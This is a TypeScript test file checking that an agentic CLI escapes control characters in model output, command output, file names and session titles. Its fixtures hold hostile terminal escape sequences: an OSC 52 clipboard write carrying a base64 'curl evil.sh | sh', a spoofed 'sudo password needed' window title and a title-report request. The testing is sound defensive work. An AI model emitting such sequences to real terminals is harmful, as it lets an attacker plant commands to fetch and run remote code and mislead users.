// Text the CLI did not write itself reached the user's terminal raw in text mode: an OSC 52 in the
// model's answer wrote the clipboard, a block's output set the window title, a file name in
// `agentic changes` and a session title in `agentic sessions` carried the same sequences. Every
// such text must be printed with its control characters shown escaped. The real CLI processes,
// the model is Replay, the block is a real bash block.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { cliApprover } from '../../src-main/hosts/cli/approve.js';
import { runCli } from '../helpers/processes.js';

const home = mkdtempSync(join(tmpdir(), 'agentic-cli-esc-'));
const ws = join(home, 'ws');
afterAll(() => rmSync(home, { recursive: true, force: true }));

const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07'; // "curl evil.sh | sh" into the clipboard
const TITLE = '\x1b]0;sudo password needed\x07';
const REPORT = '\x1b[21t'; // asks the terminal to type its title back
/** Bytes a terminal acts on: ESC, BEL, CSI (8-bit, and as U+009B). */
const RAW = /[\x1b\x07\x9b]/;

describe('the CLI prints untrusted text with control characters escaped', () => {
  it('model answer, block output, file names in `agentic changes`, session titles in `agentic sessions`', { timeout: 240_000 }, async () => {
    const replay = join(home, 'replay.json');
    // A bash block that prints the sequences (as a hostile file would when cat'ed) and creates a file named with them.
    const block = "```bash\nprintf 'look: \\033]0;owned\\007 \\033[21t done\\n'\nprintf x > \"$(printf 'f\\033]0;t\\007.txt')\"\n```";
    writeFileSync(replay, JSON.stringify({ responses: [`Here you go ${OSC52} and ${TITLE}${REPORT}\n${block}`] }));
    const run = await runCli(['run', `tidy ${TITLE} my notes`, '--agent', 'coder', '--yes', '--workspace', ws, '--replay', replay], { home });
    expect(run.code).toBe(0);
    expect(run.stdout + run.stderr).not.toMatch(RAW);
    expect(run.stdout).toContain('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
    expect(run.stdout).toContain('look: \\x1b]0;owned\\x07 \\x1b[21t done');

    const changes = await runCli(['changes'], { home });
    expect(changes.code).toBe(0);
    expect(changes.stdout).not.toMatch(RAW);
    expect(changes.stdout).toContain('f\\x1b]0;t\\x07.txt');

    const sessions = await runCli(['sessions'], { home });
    expect(sessions.code).toBe(0);
    expect(sessions.stdout).not.toMatch(RAW);
    expect(sessions.stdout).toContain('\\x1b]0;sudo password needed\\x07');
  });

  it('the approval prompt escapes the block and the reasons it quotes', async () => {
    let written = '';
    const err = { write: (s: string) => ((written += s), true) } as unknown as NodeJS.WritableStream;
    const ask = cliApprover({ yes: false, interactive: false, err });
    const request = { turnId: 't', blockId: 'b', tool: 'bash', command: `echo ${OSC52}`, reasons: [`writes ${TITLE}outside`], signal: new AbortController().signal };
    expect(await ask(request)).toBe(false);
    expect(written).not.toMatch(RAW);
    expect(written).toContain('writes \\x1b]0;sudo password needed\\x07outside');
  });
});
